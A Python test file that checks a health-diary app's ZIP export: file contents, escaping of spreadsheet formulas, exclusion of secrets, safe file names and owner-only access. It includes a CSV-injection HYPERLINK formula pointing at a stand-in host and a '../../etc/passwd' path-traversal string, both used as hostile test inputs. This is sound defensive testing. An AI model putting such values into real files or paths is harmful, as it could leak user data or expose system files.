"""Everything taken along as one ZIP: what each file holds, what none of them holds, and who gets it."""

import csv
import io
import json
import re
import zipfile
from collections.abc import Iterator
from datetime import timedelta
from typing import Any
from uuid import UUID

import pytest
import time_machine
from app.core import clock
from app.core.db import unit_of_work
from app.core.row_security import HOUSE
from app.domain.access import FRESH_FOR
from app.models.briefs import Brief
from app.rendering import fhir, pdf
from app.rendering.table_csv import SIGNS, original
from app.services import archives
from icalendar import Calendar
from pypdf import PdfReader
from sqlalchemy import update
from sqlmodel import col

from tests.api.test_comparison import logged_fortnight
from tests.api.test_counted_diaries import counted
from tests.api.test_unreadable import break_day, break_plan
from tests.briefs import ALL_PARTS, link_to, make, prepare, token_of
from tests.cast import PASSWORD, Cast, Player, days_ago
from tests.sharing import shared, supported

ALWAYS = ["README.txt", "fortnight.json", "check-ins.csv", "fhir.json"]
FORMULA = '=HYPERLINK("http://x.example/"&A1,"look")'


def taken(who: Player, experiment: dict[str, Any]) -> dict[str, bytes]:
    """The files by name, in the order in which they are in it."""
    answer = who.http.get(f"/api/experiments/{experiment['id']}/archive")
    assert answer.status_code == 200, answer.text
    with zipfile.ZipFile(io.BytesIO(answer.content)) as whole:
        assert whole.testzip() is None
        assert {each.date_time for each in whole.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        return {name: whole.read(name) for name in whole.namelist()}


def rows_of(files: dict[str, bytes]) -> list[dict[str, str]]:
    text = files["check-ins.csv"].decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def resources(files: dict[str, bytes], kind: str) -> list[dict[str, Any]]:
    found = [entry["resource"] for entry in json.loads(files["fhir.json"])["entry"]]
    return [each for each in found if each["resourceType"] == kind]


def export(cast: Cast, experiment: dict[str, Any]) -> dict[str, Any]:
    found: dict[str, Any] = cast.ana.http.get(f"/api/experiments/{experiment['id']}/export").json()
    return found


def test_everything_of_a_fortnight_is_in_it(cast: Cast) -> None:
    over = logged_fortnight(
        cast,
        medicine_label="-the white one",
        own_measures=[{"key": "own1", "name": "=fog"}],
        side_effects=["@dry"],
    )
    cast.ana.put(
        over,
        days_ago(14),
        base=1,
        **{"mood": 7, "dose": "not_taken", "dose_reason": "side_effects", "sleep_hours": 6.5, "own": {"own1": 4}},
        **{"side_effects": {"@dry": 2}, "note": FORMULA, "anything_else": "two\r\nlines", "note_starred": True},
    )
    shared(cast.ana, cast.theo, over, ["mood", "sleep"])
    supported(cast.ana, cast.mia, over, ["mood"])
    prepare(cast.ana, over, on_page=ALL_PARTS)
    page = make(cast.ana, over)["page_id"].lower()
    export(cast, over)  # the first look is stamped
    files = taken(cast.ana, over)
    assert list(files) == [*ALWAYS, "fortnight.ics", f"brief-{page}.pdf"]

    whole = json.loads(files["fortnight.json"])
    again = export(cast, over)
    for each in (whole, again, whole["report"], again["report"]):
        del each["made_at"]
    assert whole == again
    assert whole["report"]["report"]["result"] in {"stands_out", "cannot_tell"}

    rows = rows_of(files)
    assert [row["day"] for row in rows] == [days_ago(number) for number in range(14, 0, -1)]
    first = {name: value for name, value in rows[0].items() if value and name != "written_at"}
    assert first == {
        "day": days_ago(14),
        "day_number": "1",
        "state": "logged",
        "dose": "not_taken",
        "dose_reason": "side_effects",
        "dose_time": "morning",
        "mood": "7",
        "sleep_hours": "6.5",
        "own1: =fog": "4",
        "side_effect: @dry": "2",
        "anything_else": "two\r\nlines",
        "note": f"'{FORMULA}",
        "note_starred": "yes",
    }
    assert original(rows[0]["note"]) == FORMULA
    assert not any(value.startswith(tuple(SIGNS)) for row in rows for value in (*row, *row.values()))

    assert len(resources(files, "MedicationAdministration")) == 14
    assert len(resources(files, "Observation")) == 14
    [stated] = resources(files, "MedicationStatement")
    assert stated["medicationCodeableConcept"]["text"] == "-the white one"
    assert [each["name"][0]["text"] for each in resources(files, "Practitioner")] == ["Dr. Brandt"]
    assert len(resources(files, "RelatedPerson")) == 1
    assert [each["status"] for each in resources(files, "Consent")] == ["active", "active"]

    assert PdfReader(io.BytesIO(files[f"brief-{page}.pdf"])).pages
    readme = files["README.txt"].decode("utf-8-sig")
    assert all(f"  {name}: " in readme for name in files)
    assert all(f"  {name}: " in readme for name in rows[0] if ": " not in name)


def test_the_calendar_has_one_entry_that_says_nothing(cast: Cast) -> None:
    over = logged_fortnight(cast)
    made = taken(cast.ana, over)["fortnight.ics"]
    assert b"\r\n" in made and b"\n" not in made.replace(b"\r\n", b"")
    [event] = Calendar.from_ical(made).walk("VEVENT")
    days = [event.decoded(name).isoformat() for name in ("dtstart", "dtend")]
    assert days == [days_ago(14), days_ago(0)], "the end is the day after"
    assert b"DTSTART;VALUE=DATE:" in made
    assert str(event["summary"]) == "Quiet minutes"
    for said in (over["medicine_label"], over["medicine"], over["question"], over["id"], "fortnight "):
        assert said not in made.decode().replace("\r\n ", "")


def test_a_draft_can_be_taken_along(cast: Cast) -> None:
    draft = cast.ana.draft()
    files = taken(cast.ana, draft)
    assert list(files) == ALWAYS
    assert json.loads(files["fortnight.json"])["report"] is None
    assert rows_of(files) == []
    assert [each["status"] for each in resources(files, "MedicationStatement")] == ["active"]


def test_days_to_come_are_not_days_without_an_answer(cast: Cast) -> None:
    running = cast.ana.started(start_on=days_ago(2))
    cast.ana.put(running, days_ago(1), mood=4)
    states = [row["state"] for row in rows_of(taken(cast.ana, running))]
    assert states == ["not_logged", "logged", "not_logged", *["to_come"] * 11]


def test_one_that_was_stopped_before_its_first_day(cast: Cast) -> None:
    stopped = cast.ana.started(start_on=days_ago(-5))
    cast.ana.http.post(f"/api/experiments/{stopped['id']}/stop")
    files = taken(cast.ana, stopped)
    assert (list(files), rows_of(files)) == (ALWAYS, [])


def test_a_covered_result_stays_out(cast: Cast) -> None:
    over = logged_fortnight(cast)
    at = f"/api/experiments/{over['id']}"
    assert cast.ana.http.put(f"{at}/comparison/cover", json={"covered": True}).json()["covered"]
    files = taken(cast.ana, over)
    assert json.loads(files["fortnight.json"])["report"] is None
    assert "You keep the result covered" in files["README.txt"].decode()
    assert len(rows_of(files)) == 14
    assert cast.ana.http.get(at).json()["comparison_opened_at"] is None, "nobody has looked"
    words = b"".join(files.values()).decode()
    assert not any(said in words for said in ("stands_out", "permutation", "estimate"))
    cast.ana.http.put(f"{at}/comparison/cover", json={"covered": False})
    files = taken(cast.ana, over)
    assert json.loads(files["fortnight.json"])["report"]["report"]["result"] == "stands_out"
    assert "covered" not in files["README.txt"].decode()
    assert cast.ana.http.get(at).json()["comparison_opened_at"] is not None


def test_what_does_not_open_any_more_is_said_to_be_so(cast: Cast) -> None:
    over = logged_fortnight(cast)
    prepare(cast.ana, over, on_page=ALL_PARTS)
    broken, kept = make(cast.ana, over), make(cast.ana, over)
    break_day(cast, over, days_ago(5))
    with unit_of_work(cast.house.engine, by=HOUSE) as session:
        its = update(Brief).where(col(Brief.id) == UUID(broken["id"]))
        session.execute(its.values(sealed=b"\x01" + b"x" * 60))
    files = taken(cast.ana, over)
    assert [name for name in files if name.endswith(".pdf")] == [f"brief-{kept['page_id'].lower()}.pdf"]
    [row] = [row for row in rows_of(files) if row["day"] == days_ago(5)]
    assert {name: value for name, value in row.items() if value} == {
        "day": days_ago(5),
        "day_number": "10",
        "state": "unreadable",
    }
    assert len(resources(files, "MedicationAdministration")) == 13
    readme = files["README.txt"].decode()
    assert "One day cannot be opened" in readme and "A page that cannot be opened" in readme


def test_a_plan_that_does_not_open_takes_no_answer_along(cast: Cast) -> None:
    over = logged_fortnight(cast, own_measures=[{"key": "own2", "name": "fog"}])
    cast.ana.put(over, days_ago(14), base=1, mood=7, dose="taken", own={"own2": 3})
    break_plan(cast, over)
    files = taken(cast.ana, over)
    assert json.loads(files["fortnight.json"])["experiment"]["unreadable"] is True
    rows = rows_of(files)
    assert (len(rows), rows[0]["mood"], rows[0]["own2: own2"], rows[1]["side_effect: dry mouth"]) == (
        14,
        "7",
        "3",
        "1",
    )
    [stated] = resources(files, "MedicationStatement")
    assert (stated["status"], stated["medicationCodeableConcept"]) == ("unknown", {"text": "Your medicine"})
    assert "What you had set up cannot be opened" in files["README.txt"].decode()


def test_a_diary_that_counts_its_days_says_no_date(cast: Cast) -> None:
    made = counted(cast)
    files = taken(cast.ana, made)
    assert list(files) == ALWAYS
    assert [(row["day"], row["day_number"]) for row in rows_of(files)] == [("", str(n)) for n in range(3, 17)]
    days = re.findall(r'"(?:effectiveDateTime|valueDate)"', files["fhir.json"].decode())
    assert days == []
    assert "They have no dates" in files["README.txt"].decode()


def test_only_the_latest_pages_are_drawn(cast: Cast, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(archives, "MOST_BRIEFS", 2)
    over = logged_fortnight(cast)
    prepare(cast.ana, over, on_page=ALL_PARTS)
    pages = [make(cast.ana, over)["page_id"].lower() for _ in range(3)]
    files = taken(cast.ana, over)
    assert [name for name in files if name.endswith(".pdf")] == [
        f"brief-{page}.pdf" for page in reversed(pages[1:])
    ]
    assert "Only the latest 2 of these pages" in files["README.txt"].decode()
    assert len(json.loads(files["fortnight.json"])["briefs"]) == 3


def test_no_secret_and_no_name_to_sign_in_with_is_in_it(cast: Cast) -> None:
    over = logged_fortnight(cast)
    prepare(cast.ana, over, on_page=ALL_PARTS)
    token = token_of(link_to(cast.ana, over, make(cast.ana, over)["id"]))
    feed = cast.ana.http.post("/api/calendar").json()["url"].rpartition("/")[2].removesuffix(".ics")
    sharing = shared(cast.ana, cast.theo, over, ["mood"])
    files = taken(cast.ana, over)
    words = b"".join(files.values()).decode(errors="replace")
    secrets = [token, feed, cast.ana.http.cookies["fortnight"], cast.ana.sign_in, *cast.ana.recovery_codes]
    assert [each for each in secrets if each in words] == []
    health = files["fhir.json"].decode()
    assert not any(each in health for each in (over["id"], str(cast.ana.id), sharing["id"], over["question"]))


def test_no_path_comes_from_what_somebody_wrote(cast: Cast) -> None:
    """And neither does the name of the file."""
    evil = "../../etc/passwd"
    over = logged_fortnight(cast, question=evil, medicine_label=evil, side_effects=[evil])
    prepare(cast.ana, over, called=evil, prescriber=evil, on_page=ALL_PARTS)
    make(cast.ana, over)
    assert all(re.fullmatch(r"[\w-]+\.\w+", name) for name in taken(cast.ana, over))
    answer = cast.ana.http.get(f"/api/experiments/{over['id']}/archive")
    [named] = answer.headers.get_list("content-disposition")
    assert named == f'attachment; filename="fortnight-{clock.now():%Y-%m-%d}.zip"'
    assert answer.headers["content-type"] == "application/zip"
    assert answer.headers.get_list("x-content-type-options") == ["nosniff"]
    assert answer.headers["cache-control"] == "no-store"


def test_it_is_its_owners_alone(cast: Cast) -> None:
    over = logged_fortnight(cast)
    shared(cast.ana, cast.theo, over, ["mood"])
    at = f"/api/experiments/{over['id']}/archive"
    assert [who.http.get(at).status_code for who in (cast.sam, cast.theo, cast.mia)] == [404, 404, 404]
    assert cast.nobody.get(at).status_code == 401


@pytest.fixture
def later() -> Iterator[time_machine.Traveller]:
    with time_machine.travel(clock.now(), tick=False) as travelling:
        yield travelling


def test_it_asks_for_the_password_first(cast: Cast, later: time_machine.Traveller) -> None:
    over = logged_fortnight(cast)
    at = f"/api/experiments/{over['id']}"
    later.shift(FRESH_FOR + timedelta(seconds=1))
    late = cast.ana.http.get(f"{at}/archive")
    assert (late.status_code, late.json()["code"]) == (409, "confirm-first")
    assert cast.ana.http.get(at).json()["comparison_opened_at"] is None, "nothing was looked at either"
    assert cast.ana.http.post("/api/session/confirm", json={"password": PASSWORD}).status_code == 204
    assert taken(cast.ana, over)


def test_one_at_a_time(cast: Cast) -> None:
    over = cast.ana.started()
    at = f"/api/experiments/{over['id']}/archive"
    assert [cast.ana.http.get(at).status_code for _ in range(2)] == [200, 200], "each gives its turn back"
    assert cast.house.exporting.take(cast.ana.id, now=clock.now())
    busy = cast.ana.http.get(at)
    assert (busy.status_code, busy.json()["code"]) == (429, "export-running")
    cast.house.exporting.give_back(cast.ana.id)
    assert cast.ana.http.get(at).status_code == 200


def test_nothing_is_drawn_while_a_transaction_is_open(cast: Cast, monkeypatch: pytest.MonkeyPatch) -> None:
    over = logged_fortnight(cast)
    prepare(cast.ana, over, on_page=ALL_PARTS)
    make(cast.ana, over)
    held: list[int] = []
    kept = cast.house.engine.pool.checkedout()  # type: ignore[attr-defined]  # the writer keeps one
    draw, document = pdf.draw, fhir.document

    def looking(made: Any) -> Any:
        def instead(*told: Any) -> Any:
            held.append(cast.house.engine.pool.checkedout())  # type: ignore[attr-defined]
            return made(*told)

        return instead

    monkeypatch.setattr(pdf, "draw", looking(draw))
    monkeypatch.setattr(fhir, "document", looking(document))
    taken(cast.ana, over)
    assert held == [kept, kept]
